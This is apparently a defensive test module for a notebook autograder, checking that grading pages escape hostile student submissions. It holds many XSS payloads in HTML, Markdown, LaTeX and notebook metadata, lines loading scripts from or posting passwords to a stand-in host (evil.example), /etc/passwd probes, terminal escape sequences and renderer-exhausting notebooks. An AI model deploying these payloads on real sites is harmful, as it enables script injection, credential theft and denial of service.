"""Attacks on who reads a submission: scripts and pictures in all that ends up on a page."""

import base64

from tests.attacks.attack import (
    MAP,
    RIGHT,
    WINDOW,
    Attack,
    answers,
    code_cell,
    edited,
    notebook,
    solution_cell,
    write,
)

# what a browser would run or fetch, each in another way
HTML = (
    "<script>alert(1)</script>",
    "</pre></div></body></html><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>점수 보기</a>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src='javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css'; .score { display: none }</style>",
    "<form action='//evil.example'><input name=password autofocus onfocus=alert(1)></form>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<video src=//evil.example/v onerror=alert(1) autoplay>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>",
    "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img/src/onerror=alert(1)>",
    "<a\x0bhref=javascript:alert(1)>",
    "<\x00script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script>alert(1)&#60;/script>",
    "\uff1cscript\uff1ealert(1)",
    "<div style='position:fixed;inset:0;background:url(//evil.example/b.png)'>20/20</div>",
    "{{ resources }}{% include '/etc/passwd' %}{% raw %}",
    "<%= 7*7 %>${7*7}",
    "]]></script><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp></xmp><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<body onload=alert(1) background=javascript:alert(1)>",
)

MARKDOWN = (
    "[점수](javascript:alert(1))",
    "[점수](JaVa&#115;cript:alert(1))",
    "[점수](java\nscript:alert(1))",
    "[점수](&#x6A;avascript:alert(1))",
    "[점수](<javascript:alert(1)>)",
    "[점수]( javascript:alert(1) 'x')",
    "[점수](\\javascript:alert(1))",
    "[점수](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[점수](vbscript:msgbox(1))",
    "[점수](file:///etc/passwd)",
    '[점수](http://x" onmouseover="alert(1))',
    "[점수][a]\n\n[a]: javascript:alert(1) 'x'",
    "[b]:\njavascript:alert(1)\n\n[b]",
    "<javascript:alert(1)>",
    '[a]: http://x"onmouseover="alert(1)',
    "![x](http://127.0.0.1/track.png)",
    "![x](//evil.example/t.png)",
    '![x](x" onerror="alert(1))',
    "![x][c]\n\n[c]: http://evil.example/t.png",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[![x](http://evil.example/t.png)](javascript:alert(1))",
    "![x](attachment:none.png)",
    "![x](attachment:../../x)",
    "![![x](attachment:a.png)](attachment:b.png \"' onerror='alert(1)\")",
    '<https://x"onclick=alert(1)>',
    'http://x.example/"onmouseover="alert(1)',
    "`<script>`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>",
    "~~~</code></pre><script>alert(1)</script>\n~~~",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "```mermaid\ngraph TD; a[<img src=x onerror=alert(1)>]\n```",
    '```vega\n{"data": {"url": "//evil.example"}}\n```',
    "|a|b|\n|-|-|\n|<script>alert(1)</script>|`<script>`|",
    "# <script>alert(1)</script>\n<h1 onclick=alert(1)>",
    "# 점수 [20/20](#) {onclick=alert(1)}\n{: onclick=alert(1)}",
    "[^1]: <script>alert(1)</script>\n\n[^1]",
    "$\\href{javascript:alert(1)}{20/20}$",
    "$$\\href{java\\script:alert(1)}{x}$$",
    "$\\unicode[x]{60}script$",
    "$\\style{position:fixed;inset:0}{20/20}$",
    '$\\class{x"onclick=alert(1)}{x}$',
    "$\\cssId{a}{x}$",
    "$\\html{<script>alert(1)</script>}$",
    "$\\require{html}\\data{a=b}{x}$",
    "$<script>alert(1)</script>$",
    "$$<img src=x onerror=alert(1)>$$",
    "\\begin{align}<script>alert(1)</script>\\end{align}",
    "$`<script>`$",
    "\\(<script>alert(1)</script>\\)",
    "\\\\[\\href{javascript:alert(1)}x\\\\]",
    "$\\def\\a{\\hr}\\a ef{javascript:alert(1)}$",
    "$\\csname href\\endcsname{javascript:alert(1)}{x}$",
    "$\\includegraphics{//evil.example/x.png}$",
    "$a<b>c</b>$",
    "$\\htmlData{a=b}{x}\\htmlStyle{color:red}{x}\\url{javascript:alert(1)}$",
    "$\\text{</script><script>alert(1)</script>}$",
    "a\rb\u2028<script>alert(1)</script>\u2029",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
    "&nbsp;&lt;script&gt;&#0;&#x110000;",
)

PRINTS = f"""
import sys
payloads = {HTML!r}
for text in payloads:
    print(text)
    print(text, file=sys.stderr)
print("$\\\\href{{javascript:alert(1)}}{{20/20}}$ \\\\(<script>\\\\)")
payloads[0]
"""

# names of classes, functions, parameters; messages; notes; lines of source
ERRORS = f"""
# </code></pre><script>alert(1)</script>
import inspect
payloads = {HTML!r}
class Wide(inspect.Parameter):
    name = payloads[0]
class Lie(inspect.Signature):
    __str__ = lambda self: payloads[0]
    parameters = {{"x": Wide("x", inspect.Parameter.POSITIONAL_OR_KEYWORD)}}
def correlate2d(image, kernel):  # <script>alert(1)</script>
    text = payloads[image.size % len(payloads)].replace("\\0", "")
    if kernel.size % 2:
        odd = type(text, (), {{"__repr__": lambda self: text}})()
        return [[text], odd, np.array([[text]]), {{text: text}}][image.size % 4]
    error = type(text, (ValueError,), {{}})(payloads[int(image.sum()) % len(payloads)])
    error.add_note(payloads[2])
    raise error  # <img src=x onerror=alert(1)>
correlate2d.__name__ = correlate2d.__qualname__ = correlate2d.__doc__ = payloads[0]
correlate2d.__signature__ = Lie()
"""
RAISE = f"""
payloads = {HTML!r}
try:
    raise type(payloads[3], (SyntaxError,), {{}})(payloads[0], ("<script>", 1, 1, payloads[1]))
except SyntaxError as error:
    raise type("A</pre><script>", (Exception,), {{"__str__": lambda self: payloads[0]}}) from error
"""
RICH = f"""
payloads = {HTML!r}
class Rich:
    def _repr_mimebundle_(self, **k):
        return {{"text/html": payloads[0], "image/svg+xml": payloads[3],
                "text/markdown": payloads[2], "application/javascript": "alert(1)",
                "text/latex": "$\\\\href{{javascript:alert(1)}}{{x}}$",
                "application/vnd.jupyter.widget-view+json": {{"model_id": "x"}}}}
    _repr_html_ = _repr_svg_ = _repr_javascript_ = _repr_latex_ = lambda self: payloads[0]
    __repr__ = _repr_markdown_ = _repr_html_
display(Rich(), payloads[3])
try:
    from IPython.display import HTML, SVG, Javascript, IFrame, Image, display as shown
    for kind in (HTML, Javascript, SVG):
        shown(kind(payloads[0]))
except Exception as error:
    print(error, payloads[0])
Rich()
"""

# the agent of the pen keeps a cell's pictures in a list until it answers
FIGURES = """
import base64, sys
agent = sys.modules["pen.agent"]
png = b"\\x89PNG\\r\\n\\x1a\\n\\0\\0\\0\\rIHDR"
pictures = [b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", b"", b"<script>",
            b"GIF89a<script>alert(1)</script>", png + b"\\0\\0\\xff\\xff" * 2, png + b"\\0" * 8,
            png + b"\\0\\0\\0\\1" * 2 + b"'><script>alert(1)</script>", b"\\x89PNG\\r\\n\\x1a\\n"]
agent.figures += [base64.b64encode(picture).decode() for picture in pictures]
agent.figures += ["'><script>alert(1)</script>", "data:image/svg+xml,<svg/>", 5, None, [1], "="]
agent.figures += [{"text/html": "<script>alert(1)</script>"}, "\\ud800"]
agent.display = agent.plt.show = lambda *a, **k: None
"""

TERMINAL = r"""
print("\x1b[31mred\x1b[0m \x1b[38;2;1;\"><script>alert(1)</script>m \x1b[1;<img src=x>m")
print("\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07 \x1b]0;title\x07 \x1b[2J\x1b[H \x9b31m")
print("wrong\rright\b\b\b\x7f\x00\x1a\x04 \u202e\u2066\u200f \ufeff \x85 \u2028")
try:
    print("\ud800")
except UnicodeEncodeError as error:
    print(repr(error))
import os
os.write(1, b"\xff\xfe<script>\xed\xa0\x80\x1b[0m")
os.write(2, "한글".encode("cp949"))
raise ValueError("\x1b[31m\n\x1b]0;title\x07[AutogradeApp | ERROR] zz-honest failed")
"""


def _markdown(told):
    told["cells"] += [_text_cell(text) for text in (*HTML, *MARKDOWN)]
    # and what stands alone as harmless becomes something together
    told["cells"].append(_text_cell("\n\n".join((*MARKDOWN, *HTML))))
    told["cells"] += [_text_cell(a + b) for a, b in zip(MARKDOWN, HTML, strict=False)]


def _text_cell(text, kind="markdown", **more):
    return {"cell_type": kind, "metadata": {}, "source": text} | more


PNG = b"\x89PNG\r\n\x1a\n"


# a raw cell is given to the page as it is, if it says that it is of the page's type
def _raw_cells_and_attachments(told):
    for text in HTML:
        for kind in ("text/html", ""):
            metadata = {"raw_mimetype": kind, "format": kind}
            told["cells"].append(_text_cell(text, "raw", metadata=metadata))
        told["cells"].append(_text_cell(text, "heading", level="1 onclick=alert(1)"))
    pieces = {
        "a.svg": ("image/svg+xml", HTML[3].encode("utf-8")),
        "b.html": ("text/html", HTML[0].encode("utf-8")),
        "c.png": ("image/png", HTML[0].encode("utf-8")),
        "d.png": ("image/png", PNG + HTML[0].encode("utf-8")),
        "e.png": ('image/png" onerror="alert(1)', PNG),
        'f.png" onerror="alert(1)': ("image/png", PNG),
        'x\n\x1b[2J"><script>alert(1)</script>/../../x.png': ("image/png", PNG),
        "g.png": ("image/png;charset=utf-8,<svg/>", PNG),
        "h.js": ("application/javascript", b"alert(1)"),
    }
    attachments = {
        name: {kind: base64.b64encode(data).decode("ascii")}
        for name, (kind, data) in pieces.items()
    }
    attachments["i.png"] = {"image/png": "'><script>alert(1)</script>"}
    attachments["j.png"] = {"image/png": ["aGVs", "bG8="]}
    attachments["k.png"] = attachments["d.png"] | attachments["a.svg"]
    links = "\n".join(f"![x](attachment:{name})" for name in [*attachments, "missing.png"])
    for kind in ("markdown", "raw", "code"):
        told["cells"].append(_text_cell(links, kind, attachments=attachments))
    solution_cell(told)["attachments"] = attachments


def _metadata(told):
    _raw_cells_and_attachments(told)
    _forge_outputs(told)
    bad = HTML[0]
    told["metadata"].update(
        title=bad, authors=[{"name": bad}], name=bad, widgets={
            "application/vnd.jupyter.widget-state+json": {"state": {"a": {"model_name": "HTMLModel",
                "state": {"value": bad}}}, "version_major": 2}},
        language_info={"name": bad, "pygments_lexer": bad, "mimetype": bad}, toc={"title": bad},
        kernelspec={"name": "python3", "display_name": bad, "language": bad},
    )  # fmt: skip
    for k, cell in enumerate(told["cells"]):
        cell["id"] = HTML[k % len(HTML)]
        cell["metadata"].update(
            tags=[bad, "hide-input", "remove-cell"], name=bad, slideshow={"slide_type": bad},
            jupyter={"source_hidden": True, "outputs_hidden": bad}, collapsed=bad, scrolled=bad,
        )  # fmt: skip
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"].update(comment=bad, score=bad, remove=True)
    told["cells"].append(code_cell("1", nbgrader={"grade_id": bad, "grade": True, "points": bad}))


def _forge_outputs(told):
    """Outputs that the submission brings along, of every type that a page shows."""
    data = {"text/html": HTML[1], "image/svg+xml": HTML[3], "application/javascript": "alert(1)",
            "text/markdown": HTML[2], "text/latex": "$\\href{javascript:alert(1)}{x}$", "image/png": HTML[0],
            "application/vnd.jupyter.widget-view+json": {"model_id": HTML[0]},
            "application/pdf": HTML[0], "text/plain": HTML[0]}  # fmt: skip
    for cell in told["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [
                {"output_type": "display_data", "metadata": {HTML[0]: HTML[0]}, "data": data},
                {"output_type": "execute_result", "metadata": HTML[0], "data": data},
                {"output_type": "stream", "name": HTML[0], "text": list(HTML)},
                {"output_type": "error", "ename": HTML[0], "evalue": HTML[0], "traceback": HTML},
                {"output_type": HTML[0]}, HTML[0],
            ]  # fmt: skip


def _heavy_markdown(folder):
    """Renderers need time that grows with the square of a text's length."""
    told = notebook(WINDOW)
    told["cells"] += [_text_cell("[" * 10_000), _text_cell("> " * 10**6), _text_cell("가" * 10**6)]
    write(folder, told, WINDOW)


def _many_pictures(told):
    """As many pictures as one cell may have, as large as they may be, in many cells."""
    flood = (
        "import base64, sys\n"
        "png = b'\\x89PNG\\r\\n\\x1a\\n\\0\\0\\0\\rIHDR' + b'\\0\\0\\0\\x09' * 2\n"
        "big = base64.b64encode(png + bytes(490_000)).decode()\n"
        "sys.modules['pen.agent'].figures += [big] * 12"
    )
    told["cells"][1:1] = [code_cell(flood) for _ in range(6)]


def _solved(edit):
    return edited(edit, RIGHT[MAP])


ATTACKS = [
    Attack(
        "html-in-outputs",
        "a page shows what is printed, and what says that it is HTML",
        answers(RIGHT[MAP] + PRINTS, first=RICH),
        10,
    ),
    Attack(
        "html-in-errors", "checks quote messages, types and lines", answers(ERRORS, first=RAISE)
    ),
    Attack("figures-that-are-none", "a picture of another type", answers(FIGURES, first=FIGURES)),
    Attack(
        "pictures-by-the-hundred",
        "a notebook that no browser opens and no disk holds",
        _solved(_many_pictures),
        10,
    ),
    Attack(
        "terminal-sequences",
        "terminals and pages take some letters for commands",
        answers(RIGHT[MAP], first=TERMINAL),
        10,
    ),
    Attack("markdown-with-html", "Markdown may hold anything", _solved(_markdown), 10),
    Attack(
        "html-beside-the-markdown",
        "raw cells, attachments, titles, ids, tags and old outputs are shown as well",
        _solved(_metadata),
        10,
    ),
    Attack("heavy-markdown", "the feedback is never done", _heavy_markdown),
]
